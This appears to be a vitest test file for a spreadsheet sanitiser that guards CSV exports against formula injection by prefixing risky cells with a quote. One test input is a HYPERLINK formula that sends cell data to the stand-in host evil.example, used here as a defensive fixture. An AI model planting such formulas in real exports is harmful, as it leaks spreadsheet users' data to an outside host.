import { describe, expect, it } from 'vitest';
import { safeCell, spreadsheetSafe } from './spreadsheet.ts';

describe('spreadsheetSafe (OWASP CSV injection)', () => {
  it('puts a quote before a text a spreadsheet would run as a formula', () => {
    expect(spreadsheetSafe('=HYPERLINK("http://evil.example/?"&A2,"Details")')).toBe('\'=HYPERLINK("http://evil.example/?"&A2,"Details")');
    expect(['@SUM(1+1)', '+1', '-1 text', '\tTAB', '\rCR', '=', '-'].map(spreadsheetSafe))
      .toEqual(["'@SUM(1+1)", "'+1", "'-1 text", "'\tTAB", "'\rCR", "'=", "'-"]);
  });

  it('leaves other texts alone, formula characters inside them included', () => {
    for (const s of ['', 'plain', ' =1+1', 'a=b', 'x-1', "'already", '\n=1', 'ñandú', '1+1']) expect(spreadsheetSafe(s)).toBe(s);
  });

  it('safeCell: only texts change; numbers, negative ones included, and empty values stay as they are', () => {
    expect([-1, 0, 2.5, null, undefined, true, '-1', '=x'].map(safeCell)).toEqual([-1, 0, 2.5, null, undefined, true, "'-1", "'=x"]);
  });
});
